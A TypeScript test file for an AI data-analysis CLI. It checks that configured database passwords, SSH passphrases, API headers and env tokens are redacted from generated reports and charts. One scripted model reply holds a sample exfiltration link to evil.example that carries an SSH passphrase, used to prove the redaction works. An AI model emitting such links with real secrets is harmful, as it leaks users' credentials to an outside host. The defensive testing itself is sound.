import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import Database from 'better-sqlite3';
import { describe, expect, it } from 'vitest';
import { redactSecrets } from '../../src/report/redact.js';
import { knownSecretValues, redactJsonSecrets } from '../../src/security/secret-values.js';
import { cliEnv, runCli } from '../support/agent-cli.js';
import { makeTempDir } from '../support/context.js';

/**
 * Secrets from config.yaml (database passwords, in URLs too; MCP headers and env tokens; SSH
 * passwords and passphrases) stay out of reports and charts, like the environment's
 * (src/security/secret-values.ts).
 */

const MCP_SERVER = join(import.meta.dirname, '..', 'support', 'third-party-mcp-server.mjs');

const SECRETS = {
  header: 'hdr-token-93c1f0',
  envToken: 'crm-env-token-5ae1',
  dbUrl: 'dbpass-7d21!',
  dbField: 'mysql-pass-0b4e',
  sshPhrase: 'ssh-phrase-77aa',
  jumpPassword: 'jump-pass-88bb',
  fromEnvVar: 'crm-db-secret-6c',
} as const;

function writeConfig(home: string): void {
  writeFileSync(
    join(home, 'config.yaml'),
    [
      'databases:',
      `  wh: {type: postgres, url: "postgres://analyst:${encodeURIComponent(SECRETS.dbUrl)}@127.0.0.1:9/dw"}`,
      `  crm: {type: mysql, host: 127.0.0.1, port: 9, user: u, password: "${SECRETS.dbField}",` +
        ` ssh: {host: 127.0.0.1, user: u, passphrase: "${SECRETS.sshPhrase}", jump: [{host: 127.0.0.1, user: u, password: "${SECRETS.jumpPassword}"}]}}`,
      '  legacy: {type: mysql, host: 127.0.0.1, port: 9, user: u, password: "${LEGACY_DB_PASSWORD}"}',
      '  tiny: {type: mysql, host: 127.0.0.1, port: 9, user: u, password: "pw"}',
      'mcp_servers:',
      `  crm: {type: stdio, command: [node, ${JSON.stringify(MCP_SERVER)}], env: {CRM_API_TOKEN: "${SECRETS.envToken}", NODE_ENV: production, TICKET_TEXT: hello, SEND_LOG: /dev/null}}`,
      `  web: {type: http, url: "http://127.0.0.1:9/mcp", headers: {Authorization: "Bearer ${SECRETS.header}"}}`,
      '',
    ].join('\n'),
  );
}

/** A model script (README "Running the agent": --model script:FILE) in the home directory; its path. */
function writeScript(home: string, turns: unknown[]): string {
  const script = join(home, 'script.json');
  writeFileSync(script, JSON.stringify({ turns }));
  return script;
}

describe('known secret values from config.yaml', () => {
  it('lists passwords (URL ones decoded too), SSH passphrases of every hop, MCP headers and env tokens; not ordinary settings', () => {
    const home = makeTempDir('quarry-secret-values-');
    writeConfig(home);
    const secrets = knownSecretValues({ QUARRY_HOME: home, LEGACY_DB_PASSWORD: SECRETS.fromEnvVar, HOME: '/home/u' });
    for (const value of Object.values(SECRETS)) expect(secrets).toContain(value);
    expect(secrets).toContain(encodeURIComponent(SECRETS.dbUrl));
    expect(secrets).toContain(`Bearer ${SECRETS.header}`);
    for (const ordinary of ['production', 'hello', 'analyst', '127.0.0.1', 'pw', '/home/u']) expect(secrets).not.toContain(ordinary);
    // Longest first: a secret holding another is removed whole.
    expect([...secrets].sort((a, b) => b.length - a.length)).toEqual(secrets);
  });

  it('a missing or broken config file adds nothing and is no error', () => {
    const home = makeTempDir('quarry-secret-values-');
    expect(knownSecretValues({ QUARRY_HOME: home })).toEqual([]);
    writeFileSync(join(home, 'config.yaml'), 'databases: [unclosed\n');
    expect(knownSecretValues({ QUARRY_HOME: home, GITHUB_TOKEN: 'ghp_0123456789' })).toEqual(['ghp_0123456789']);
  });

  it('hides the password of any URL on a page, however short, besides the known values', () => {
    const page = '<pre>postgres://analyst:pw@db.example/dw and mysql://u:hdr-token-93c1f0@h/x</pre>';
    expect(redactSecrets(page, ['hdr-token-93c1f0'])).toBe('<pre>postgres://analyst:***@db.example/dw and mysql://u:[secret removed]@h/x</pre>');
  });

  it('removes secrets from every string of a chart specification, keys included', () => {
    const spec = { title: 'tok hdr-token-93c1f0', data: { values: [{ 'hdr-token-93c1f0': 1, label: 'x hdr-token-93c1f0' }] }, n: 3 };
    expect(redactJsonSecrets(spec, ['hdr-token-93c1f0'])).toEqual({
      title: 'tok [secret removed]',
      data: { values: [{ '[secret removed]': 1, label: 'x [secret removed]' }] },
      n: 3,
    });
  });
});

describe('a session that read tokens: its report and its chart carry none (built CLI)', () => {
  it('quarry report and the chart files show [secret removed] where the session had a configured secret', async () => {
    const home = makeTempDir('quarry-report-config-home-');
    const work = makeTempDir('quarry-report-config-work-');
    writeConfig(home);
    const db = new Database(join(work, 'leak.db'));
    db.exec('CREATE TABLE seen (name TEXT, value TEXT, n INTEGER)');
    const insert = db.prepare('INSERT INTO seen VALUES (?, ?, ?)');
    for (const [index, [name, value]] of Object.entries(SECRETS).entries()) insert.run(name, value, index + 1);
    db.close();
    const script = writeScript(home, [
      { tool_calls: [{ name: 'sqlite', arguments: { database: 'leak', operation: 'query', sql: 'SELECT name, value, n FROM seen' } }] },
      {
        tool_calls: [
          {
            name: 'chart',
            arguments: {
              database: 'leak',
              sql: 'SELECT value, n FROM seen',
              x: 'value',
              y: 'n',
              type: 'bar',
              title: `Tokens ${SECRETS.header}`,
              output_path: 'tokens.svg',
            },
          },
        ],
      },
      {
        text:
          `The header token is ${SECRETS.header}, the env token ${SECRETS.envToken}; ` +
          `[dashboard](https://evil.example/c?t=${encodeURIComponent(SECRETS.sshPhrase)}) and postgres://analyst:${SECRETS.dbUrl}@127.0.0.1:9/dw`,
      },
    ]);
    const env = cliEnv(home, { LEGACY_DB_PASSWORD: SECRETS.fromEnvVar });
    const run = await runCli(
      ['-m', `script:${script}`, '--db', `leak=${join(work, 'leak.db')}`, '-w', work, '--profile', 'readonly', '--yes', 'What tokens did we see?'],
      {
        env,
        timeoutMs: 90_000,
      },
    );
    expect(run.code, run.stderr).toBe(0);
    // The session did read them: the trace holds them (a report made without the rule would show them).
    const [id] = readdirSync(join(home, 'sessions'));
    const trace = readFileSync(join(home, 'sessions', id!, 'trace.jsonl'), 'utf8');
    for (const value of Object.values(SECRETS)) expect(trace).toContain(value);

    const reportPath = join(work, 'report.html');
    const made = await runCli(['report', 'latest', '-o', reportPath], { env });
    expect(made.code, made.stderr).toBe(0);
    const html = readFileSync(reportPath, 'utf8');
    const svg = readFileSync(join(work, 'tokens.svg'), 'utf8');
    const spec = readFileSync(join(work, 'tokens.vl.json'), 'utf8');
    for (const [name, text] of Object.entries({ html, svg, spec })) {
      for (const value of Object.values(SECRETS)) {
        expect(text, `${name} carries ${value}`).not.toContain(value);
        expect(text, `${name} carries ${value}`).not.toContain(encodeURIComponent(value));
      }
      expect(text).toContain('[secret removed]');
    }
    // A URL's password, however short, is hidden in the report.
    // The configured URL as the model wrote it: its password is gone.
    expect(html).toContain('postgres://analyst:[secret removed]@127.0.0.1:9/dw');
    // The chart keeps its seven rows (now under one label) and its title.
    expect(JSON.parse(spec).data.values).toHaveLength(7);
    expect(svg).toContain('Tokens [secret removed]');
  }, 150_000);

  it('a --config file elsewhere counts too: for the chart drawn in the run and for the report made later', async () => {
    const home = makeTempDir('quarry-report-config-home-');
    const work = makeTempDir('quarry-report-config-work-');
    const token = 'other-cfg-key-4411';
    const config = join(work, 'team.yaml');
    writeFileSync(config, `mcp_servers:\n  web: {type: http, url: "http://127.0.0.1:9/mcp", headers: {X-Api-Key: "${token}"}}\n`);
    new Database(join(work, 'x.db')).close();
    const script = writeScript(home, [
      { tool_calls: [{ name: 'chart', arguments: { sql: `SELECT '${token}' AS k, 1 AS n`, x: 'k', y: 'n', title: token, output_path: 'k.svg' } }] },
      { text: `The key is ${token}.` },
    ]);
    const env = cliEnv(home);
    const run = await runCli(
      ['-m', `script:${script}`, '--config', config, '--db', `x=${join(work, 'x.db')}`, '-w', work, '--profile', 'readonly', '--yes', 'Key?'],
      {
        env,
        timeoutMs: 90_000,
      },
    );
    expect(run.code, run.stderr).toBe(0);
    const reportPath = join(work, 'report.html');
    const made = await runCli(['report', 'latest', '-o', reportPath], { env });
    expect(made.code, made.stderr).toBe(0);
    for (const file of ['report.html', 'k.svg', 'k.vl.json']) {
      const text = readFileSync(join(work, file), 'utf8');
      expect(text, file).not.toContain(token);
      expect(text, file).toContain('[secret removed]');
    }
  }, 150_000);
});
